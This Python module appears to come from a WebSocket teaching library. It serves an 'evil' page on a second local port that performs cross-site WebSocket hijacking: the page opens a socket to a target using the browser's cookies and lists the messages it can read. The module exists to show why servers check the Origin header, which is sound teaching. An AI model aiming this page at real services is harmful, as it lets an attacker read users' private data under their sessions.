"""Cross-site WebSocket hijacking: an "evil" page on a second kernel port.

The same-origin policy keeps a page from *reading* other sites' HTTP answers, but it does
not apply to WebSocket: any page may open ``new WebSocket("ws://your-server/chat")``, the
browser attaches the cookies it holds for ``your-server`` (RFC 6265: cookies belong to a
host, not to a port or a page), and the page reads every message that comes back. The one
thing the browser always adds, and a page cannot forge, is the ``Origin`` header: the
origin of the page that opened the socket (RFC 6455 §4.1 item 8, §10.2). So the server
must look at it, and refuse origins it does not know with 403.

:func:`start_evil_site` serves such a page from another port of the kernel::

    evil = start_evil_site(server.url + "/chat")
    evil.http_url          # open it in a browser: does the demo let it in?

Two ports of one host are two *origins* (the port is part of an origin, RFC 6454 §4) but
one *site* (a site ignores ports), so the browser sends even ``SameSite=Lax`` cookies along:
on the real web, the evil page sits on another site and the cookie needs ``SameSite=None``.

The page writes what happened into ``#verdict`` (``open`` or ``refused``) and every message
it could read into ``#stolen``, always with ``textContent``.
"""

from __future__ import annotations

import html
import json
from collections.abc import Mapping

from wslearn.handshake import Request, Response, text_response
from wslearn.notebook import BackgroundServer, start_server
from wslearn.notebook.urls import browser_url, direct_url

__all__ = ["EvilLinks", "EvilSite", "evil_links", "evil_page", "start_evil_site"]

PAGE_PATH = "/"
LOGIN_PATH = "/login"


def _js_string(text: str) -> str:
    """A JavaScript string literal that cannot end the <script> element it sits in."""
    return json.dumps(text).replace("<", "\\u003c").replace(">", "\\u003e")


def evil_page(target: str, *, send: str = "Hello from another origin") -> str:
    """The HTML of a page that opens a WebSocket to ``target`` and shows what it can read."""
    title = html.escape(target)
    return f"""<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Not the demo</title></head>
<body style="font-family:sans-serif">
<h1>A page from another origin</h1>
<p>This page opens <code>{title}</code> with the cookies your browser holds for that host.</p>
<p>Verdict: <strong id="verdict">connecting…</strong></p>
<p id="detail"></p>
<p>Messages this page could read:</p>
<ul id="stolen"></ul>
<script>
"use strict";
const target = {_js_string(target)};
const verdict = document.getElementById("verdict");
const detail = document.getElementById("detail");
const stolen = document.getElementById("stolen");
let opened = false;
const ws = new WebSocket(target);
ws.onopen = () => {{
  opened = true;
  verdict.textContent = "open";
  verdict.className = "open";
  detail.textContent = "the server let a page from " + location.origin + " in";
  ws.send({_js_string(send)});
}};
ws.onmessage = (event) => {{
  const item = document.createElement("li");
  item.textContent = String(event.data);
  stolen.appendChild(item);
}};
ws.onclose = (event) => {{
  if (opened) return;
  verdict.textContent = "refused";
  verdict.className = "refused";
  // A refused handshake is invisible to the page: no status, just code 1006.
  detail.textContent = "the handshake failed (the page only sees close code " + event.code + ")";
}};
</script>
</body>
</html>
"""


class EvilSite:
    """What :func:`start_evil_site` serves: the page for ``target`` at ``/``, 404 elsewhere.

    With a ``cookie`` (name, value), ``/login`` sets it, standing in for the user's login to
    the demo: a cookie belongs to the host, so one set by this port is sent to every port
    of 127.0.0.1 (RFC 6265 §8.5, "cookies do not provide isolation by port").
    """

    def __init__(self, target: str, cookie: tuple[str, str] | None = None) -> None:
        self.target = target
        self.cookie = cookie
        self.page = evil_page(target)

    def process_request(self, request: Request) -> Response:
        if request.path == LOGIN_PATH and self.cookie is not None:
            name, value = self.cookie
            return text_response(
                200,
                f"You are now 'logged in': the cookie {name} is set for the host 127.0.0.1, every port.\n"
                "Go back to the page at / and reload it.\n",
                [("Set-Cookie", f"{name}={value}; Path=/; SameSite=Lax; HttpOnly")],
            )
        if request.path != PAGE_PATH:
            return text_response(404, f"only {PAGE_PATH} is served here\n")
        response = text_response(200, self.page)
        response.headers["Content-Type"] = "text/html; charset=utf-8"
        return response


async def _no_websocket(ws: object) -> None:
    """Never reached: every request gets the page (or a 404) from ``process_request``."""


_sites: dict[str, EvilSite] = {}


def start_evil_site(
    target: str, name: str = "evil", *, cookie: tuple[str, str] | None = None
) -> BackgroundServer:
    """Serve the evil page for ``target`` on a port of its own (``.http_url``).

    ``cookie`` adds a ``/login`` page that sets it (see :class:`EvilSite`). Re-running the
    cell with the same arguments returns the running site.
    """
    site = _sites.get(name)
    if site is None or (site.target, site.cookie) != (target, cookie):
        site = _sites[name] = EvilSite(target, cookie)
    return start_server(_no_websocket, name, process_request=site.process_request)


class EvilLinks:
    """The two links a student opens (log in, then the evil page), or why there are none."""

    def __init__(self, port: int, proxied: bool) -> None:
        self.login = direct_url(port, LOGIN_PATH)
        self.page = direct_url(port, PAGE_PATH)
        self.proxied = proxied

    def text(self) -> str:
        if self.proxied:
            return PROXIED
        return f"1. log in (sets the cookie): {self.login}\n2. open the evil page: {self.page}"

    __repr__ = __str__ = text

    def _repr_html_(self) -> str:
        if self.proxied:
            return f"<p class='wslearn-evil-links'><i>{html.escape(PROXIED)}</i></p>"
        links = "".join(
            f"<li><a href='{html.escape(url, quote=True)}' target='_blank' rel='noopener'>"
            f"{html.escape(text)}</a> <code>{html.escape(url)}</code></li>"
            for text, url in (("log in (sets the cookie)", self.login), ("open the evil page", self.page))
        )
        return f"<ol class='wslearn-evil-links'>{links}</ol>"


PROXIED = (
    "This notebook is served through a Jupyter server proxy: your browser cannot reach the"
    " kernel's ports directly, and through the proxy every port shares the Jupyter server's"
    " origin. Run the notebook in a local Jupyter to try the evil page in your browser."
)


def evil_links(site: BackgroundServer, environ: Mapping[str, str] | None = None) -> EvilLinks:
    """Links to the evil site for a browser on the kernel's machine (none behind a proxy)."""
    proxied = browser_url(site.port, environ=environ) != direct_url(site.port)
    return EvilLinks(site.port, proxied)
